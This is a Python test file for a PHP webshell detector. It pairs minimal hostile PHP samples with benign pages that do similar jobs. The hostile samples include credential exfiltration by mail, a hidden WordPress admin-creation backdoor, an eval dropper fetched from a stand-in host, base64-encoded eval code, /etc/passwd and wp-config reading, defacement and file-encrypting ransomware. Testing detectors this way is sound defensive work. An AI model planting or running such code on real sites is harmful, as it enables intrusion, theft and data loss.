"""The PHP capability model (SSC-003-450..463): one shell-shaped sample and one legitimate
page doing a similar job per rule, the gate, the registry, and a fuzz test of the extractor.

Every sample is minimal and written for this test."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sscguard.detect.webshell import capability as cap
from sscguard.detect.webshell.detectors import DETECTORS, run_detectors
from sscguard.detect.webshell.flow import Budget
from sscguard.model import Severity

POSITIVE: dict[str, bytes] = {
    cap.CALLBACK_EXEC: b"<?php $cb = $_REQUEST['cb']; $a = array($_POST['x']); "
    b"array_walk($a, $cb);",
    cap.MASS_MAILER: b"""<?php
$list = explode("\\n", $_POST['to']);
foreach ($list as $rcpt) {
    mail(trim($rcpt), $_POST['subject'], $_POST['body'], "From: " . $_POST['from']);
}""",
    cap.MAIL_EXFIL: b"""<?php
$msg  = "user: " . $_POST['user'] . "\\n";
$msg .= "pass: " . $_POST['password'] . "\\n";
mail("drop@example.invalid", "result", $msg);
header("Location: https://bank.example/");""",
    cap.SQL_CONSOLE: b"""<?php
$c = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);
$q = stripslashes($_POST['sql']);
$r = mysqli_query($c, $q);
while ($row = mysqli_fetch_row($r)) { echo implode("\\t", $row), "\\n"; }""",
    cap.NET_SCANNER: b"""<?php
$host = $_GET['host'];
for ($port = (int)$_GET['from']; $port < (int)$_GET['to']; $port++) {
    $s = @fsockopen($host, $port, $e, $m, 1);
    if ($s) { echo "$port open\\n"; fclose($s); }
}""",
    cap.NET_RELAY: b"""<?php
$srv = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_bind($srv, '0.0.0.0', (int)$_GET['port']);
socket_listen($srv);
while (true) {
    $r = array($srv); socket_select($r, $w, $x, 1);
    $c = socket_accept($srv);
    $up = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
    socket_connect($up, $_GET['to'], 22);
    socket_write($up, socket_read($c, 8192));
}""",
    cap.FILE_DROP: b"""<?php
$f = dirname(__FILE__) . $_POST['name'];
$buf = '';
$hex = $_POST['hex'];
for ($i = 0; $i < strlen($hex); $i += 2) { $buf .= chr(hexdec(substr($hex, $i, 2))); }
$h = fopen($f, 'w'); fwrite($h, $buf); fclose($h);""",
    cap.CODE_WRITE: b"<?php fputs(fopen('x.php', 'w'), "
    b"base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOyA/Pg=='));",
    cap.DEFACE: b"<?php $h = fopen('../index.php', 'w'); fwrite($h, '<h1>owned</h1>');",
    cap.HOST_RECON: b"""<?php
foreach (file('/etc/passwd') as $line) {
    $user = explode(':', $line)[0];
    echo @file_get_contents("/home/$user/public_html/wp-config.php");
}""",
    cap.WRAPPER_READ: b"""<?php
$tmp = tempnam('/tmp', 'x');
copy('compress.zlib://' . $_GET['file'], $tmp);
readfile($tmp);""",
    cap.FS_BROWSER: b"""<?php
function walk($d) {
    foreach (scandir($d) as $e) {
        if ($e[0] == '.') continue;
        if (is_dir("$d/$e")) { if (is_writable("$d/$e")) echo "$d/$e\\n"; walk("$d/$e"); }
    }
}
walk($_GET['dir']);""",
    cap.CMS_ACCOUNT: b"""<?php
add_action('init', function () {
    if (isset($_GET['u'])) {
        $id = wp_create_user($_GET['u'], $_GET['p']);
        $user = new WP_User($id);
        $user->set_role('administrator');
    }
});""",
    cap.SECRET_GATE: b"""<?php
if (md5($_REQUEST['k']) == '0cc175b9c0f1b6a831c399e269772661') {
    $wpdb->query($wpdb->prepare("UPDATE t SET c=%s", $_REQUEST['c']));
}""",
    # SSC-003-490..492: more samples in test_detection_capability_tools.py
    cap.DROPPER: b"""<?php
$code = file_get_contents('https://paste.example.invalid/raw/k2');
file_put_contents(__DIR__ . '/wp-cache.php', $code);""",
    cap.SEO_CLOAK: b"""<?php
if (stripos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) {
    echo file_get_contents('http://links.example.invalid/p?u=' . $_SERVER['REQUEST_URI']);
} elseif (preg_match('/google|bing/i', $_SERVER['HTTP_REFERER'])) {
    echo "<script>location.href='http://shop.example.invalid/';</script>";
}""",
    cap.RANSOM: b"""<?php
class L { static function go($d) { foreach (glob("$d/*") as $p) {
    if (is_dir($p)) { L::go($p); continue; }
    $c = file_get_contents($p);
    file_put_contents($p, sodium_crypto_secretbox($c, $GLOBALS['n'], $_POST['k']));
} } }
L::go('.');""",
}

BENIGN: dict[str, bytes] = {
    # a dispatcher over the application's own step functions
    cap.CALLBACK_EXEC: b"<?php $step = (int)$_POST['step']; "
    b"if (function_exists('step' . $step)) call_user_func('step' . $step, $_POST);"
    b"$clean = array_map('trim', $_POST['tags']);",
    # a newsletter: recipients from the database, body typed by the admin
    cap.MASS_MAILER: b"""<?php
$rows = $db->query('SELECT email FROM subscribers WHERE active = 1');
foreach ($rows as $row) {
    mail($row['email'], $_POST['subject'], $_POST['body'], 'From: news@example.org');
}""",
    # a contact form: fixed recipient, no secrets
    cap.MAIL_EXFIL: b"""<?php
$body = "Name: " . $_POST['name'] . "\\nMessage: " . $_POST['message'];
mail('contact@example.org', 'Contact form', $body, 'From: web@example.org');""",
    # a search page: request input is a parameter inside a fixed statement
    cap.SQL_CONSOLE: b"""<?php
$q = mysqli_query($c, "SELECT * FROM items WHERE name LIKE '%"
    . mysqli_real_escape_string($c, $_GET['q']) . "%'");
$stmt = $pdo->prepare('SELECT * FROM t WHERE id = ?'); $stmt->execute([$_GET['id']]);""",
    # a link checker: one connection to a configured host
    cap.NET_SCANNER: b"""<?php
$fp = fsockopen($config['smtp_host'], 25, $e, $m, 5);
fwrite($fp, "QUIT\\r\\n");""",
    # a development server that listens, without relaying anywhere
    cap.NET_RELAY: b"""<?php
$s = stream_socket_server('tcp://127.0.0.1:9912', $e, $m);
while ($c = stream_socket_accept($s)) { fwrite($c, date('c')); fclose($c); }""",
    # an upload form that keeps only a safe base name inside its own folder
    cap.FILE_DROP: b"""<?php
$name = basename($_FILES['f']['name']);
move_uploaded_file($_FILES['f']['tmp_name'], __DIR__ . '/uploads/' . md5($name) . '.dat');
$h = fopen('cache/' . $key . '.txt', 'w'); fwrite($h, $_POST['note']);""",
    # a logger appending to its own log file
    cap.CODE_WRITE: b"<?php $h = fopen('app.log', 'a'); "
    b"fwrite($h, date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . \"\\n\");",
    # an installer writing the configuration file
    cap.DEFACE: b"<?php $h = fopen('config.php', 'w'); fwrite($h, $config_text);",
    # a test that path traversal to /etc/passwd is refused
    cap.HOST_RECON: b"<?php $this->assertFalse($file->resolve('/etc/passwd'));",
    # reading the application's own compressed cache
    cap.WRAPPER_READ: b"<?php $data = file_get_contents('compress.zlib://' . CACHE_DIR . '/a.gz');",
    # a gallery listing its own image folder chosen from a fixed list
    cap.FS_BROWSER: b"""<?php
$album = basename($_GET['album']);
foreach (scandir(__DIR__ . '/albums/' . $album) as $img) { echo $img; }""",
    # an installer downloading its language pack (not code) into its own folder
    cap.DROPPER: b"""<?php
$po = file_get_contents('https://i18n.example.org/app/de.po');
file_put_contents(__DIR__ . '/lang/de.po', $po);""",
    # a dynamic-rendering hook: crawlers get a pre-rendered copy, nobody is redirected
    cap.SEO_CLOAK: b"""<?php
if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) {
    echo file_get_contents('https://render.example.org/' . $_SERVER['REQUEST_URI']); exit;
}""",
    # an encrypted backup: the copies go elsewhere, the site stays readable
    cap.RANSOM: b"""<?php
function b($d) { foreach (scandir($d) as $e) { if ($e[0] == '.') continue;
    if (is_dir("$d/$e")) { b("$d/$e"); continue; }
    file_put_contents('/backup/' . md5("$d/$e"),
        openssl_encrypt(file_get_contents("$d/$e"), 'aes-256-cbc', KEY)); } }""",
    # a login that sets the cookie for the user who just authenticated
    cap.CMS_ACCOUNT: b"""<?php
$user = wp_authenticate($_POST['log'], $_POST['pwd']);
if (!is_wp_error($user)) { wp_set_auth_cookie($user->ID); }""",
    # comparing with a hash stored per user
    cap.SECRET_GATE: b"""<?php
if (hash_equals($row['token_hash'], hash('sha256', $_POST['token']))) { mail($to, 's', 'b'); }""",
}


def _ids(data: bytes, name: str = "page.php") -> dict[str, Severity]:
    """The capability model's own verdicts (in a full run it is skipped on files an earlier
    analyser already flagged high; see the test below)."""
    from sscguard.detect.webshell.detectors import FileContext

    out: dict[str, Severity] = {}
    for finding in cap.detect(FileContext(name, data)):
        if finding.rule_id in cap.ALL_IDS:
            out[finding.rule_id] = finding.severity
    return out


def test_capability_model_is_skipped_when_dataflow_already_flagged_high() -> None:
    sample = POSITIVE["SSC-003-457"]
    findings = run_detectors("page.php", sample, ())
    assert any(f.severity >= Severity.HIGH for f in findings)
    assert not [f for f in findings if f.rule_id in cap.ALL_IDS]
    assert "SSC-003-457" in _ids(sample)


@pytest.mark.parametrize("rule_id", cap.ALL_IDS)
def test_positive_sample_is_flagged_medium_or_higher(rule_id: str) -> None:
    found = _ids(POSITIVE[rule_id])
    assert rule_id in found, found
    assert found[rule_id] >= Severity.MEDIUM


@pytest.mark.parametrize("rule_id", cap.ALL_IDS)
def test_legitimate_page_is_not_flagged_medium(rule_id: str) -> None:
    found = _ids(BENIGN[rule_id])
    assert all(sev < Severity.MEDIUM for sev in found.values()), found


def test_finding_explains_itself_with_lines_and_attack_refs() -> None:
    findings = run_detectors("m.php", POSITIVE[cap.MASS_MAILER], ())
    (finding,) = [f for f in findings if f.rule_id == cap.MASS_MAILER]
    assert finding.attack[0].technique == "T1505.003"
    assert any(r.technique == "T1566" for r in finding.attack)
    lines = [e.location.line for e in finding.evidence if e.location.line]
    assert 4 in lines  # the mail() call
    assert finding.why and finding.remediation


def test_authorisation_check_makes_it_low() -> None:
    guarded = POSITIVE[cap.SQL_CONSOLE].replace(
        b"$r = mysqli_query($c, $q);",
        b"if (current_user_can('admin')) { $r = mysqli_query($c, $q); }",
    )
    found = _ids(guarded)
    assert found.get(cap.SQL_CONSOLE) == Severity.LOW


def test_register_globals_form_fields_are_request_input() -> None:
    page = b"""<form method=post><textarea name="emaillist"></textarea>
<input name="subject"><textarea name="message"></textarea></form>
<? $all = split("\\n", $emaillist);
for ($x = 0; $x < count($all); $x++) { mail($all[$x], $subject, $message); } ?>"""
    assert cap.MASS_MAILER in _ids(page)


def test_register_globals_link_parameters_and_reopened_handles() -> None:
    # the page links to itself with ?save=...; the write goes through the SECOND fopen
    page = b"""<a href="?save=x">edit</a><form><textarea name="body"></textarea></form>
<? if ($mk) { $h = fopen("./new.txt", 'w'); fwrite($h, "x"); fclose($h); }
if ($save) { $h = fopen($save, 'w'); fwrite($h, $body); fclose($h); } ?>"""
    assert _ids(page).get(cap.FILE_DROP) == Severity.MEDIUM
    # without the link the name is not request input
    assert cap.FILE_DROP not in _ids(page.replace(b'<a href="?save=x">edit</a>', b""))


def test_generated_index_page_is_not_a_defacement() -> None:
    # a documentation generator assembles an index page in a loop and writes it out
    page = b"""<?php
$h = fopen('../docs/index.html', 'w');
$html = '<ul>';
foreach ($topics as $t) { $html .= '<li>' . htmlspecialchars($t) . '</li>'; }
fwrite($h, $html . '</ul>');
fclose($h);"""
    assert cap.DEFACE not in _ids(page)


def test_comment_split_code_is_read_through() -> None:
    page = b'<?php @$_="a"."ss"."ert"; @$_/*x*/($/*y*/{"_PO"."ST"}[0]);'
    assert _ids(page).get(cap.CALLBACK_EXEC) == Severity.HIGH


def test_constant_exec_callback_without_request_input() -> None:
    assert cap.CALLBACK_EXEC in _ids(b"<?php ob_start('system'); echo 'id'; ob_end_flush();")
    assert cap.CALLBACK_EXEC in _ids(
        b"<?php filter_var($_GET['c'], FILTER_CALLBACK, array('options' => 'assert'));"
    )


def test_gate_lets_every_positive_through_and_rejects_plain_code() -> None:
    for data in POSITIVE.values():
        assert cap.gate_passes(data, None)
    assert not cap.gate_passes(b"<?php class A { function f() { return 1; } }", None)
    assert not cap.gate_passes(b"<?php $x = $_GET['a']; echo htmlspecialchars($x);", None)


def test_gate_rules_match_positives_in_the_yara_pass(ruleset) -> None:  # type: ignore[no-untyped-def]
    from sscguard.rules.yara import Matcher

    matcher = Matcher(ruleset)
    for data in POSITIVE.values():
        matcher.match(data, {"filename": "", "filepath": "", "extension": "", "filetype": ""})
        assert cap.gate_passes(data, matcher.gates), data[:60]


def test_registry_has_one_capability_entry_with_all_ids() -> None:
    entries = [d for d in DETECTORS if d.name == "php-capability"]
    assert len(entries) == 1
    assert entries[0].ids == cap.ALL_IDS
    assert set(cap.RULES) == set(cap.ALL_IDS)
    assert all(
        i.startswith("SSC-003-4") and (450 <= int(i[-3:]) <= 469 or 490 <= int(i[-3:]) <= 499)
        for i in cap.ALL_IDS
    )


def test_big_files_are_skipped_with_a_reason() -> None:
    report = cap.analyse_capabilities(b"<?php " + b"$a=1;" * (cap.MAX_CAPABILITY_BYTES // 4))
    assert not report.capabilities
    assert report.bounded


FAST = settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
SEED = b"".join(POSITIVE.values())


@FAST
@given(st.binary(max_size=4096))
def test_extractor_never_crashes_on_random_bytes(data: bytes) -> None:
    for prefix in (b"", b"<?php ", b"<script language=php>"):
        report = cap.analyse_capabilities(prefix + data, Budget())
        assert all(c.rule_id in cap.ALL_IDS for c in report.capabilities)


@FAST
@given(st.integers(0, len(SEED)), st.integers(0, len(SEED)))
def test_extractor_never_crashes_on_spliced_shells(start: int, cut: int) -> None:
    report = cap.analyse_capabilities(SEED[start:] + SEED[:cut], Budget())
    assert all(c.line >= 1 for c in report.capabilities)


def test_deep_nesting_stays_within_budget() -> None:
    import time

    data = b"<?php mail(" + b"(" * 3000 + b"$_POST['a']" + b")" * 3000 + b", 1, 2);"
    t0 = time.monotonic()
    cap.analyse_capabilities(data, Budget())
    assert time.monotonic() - t0 < 5
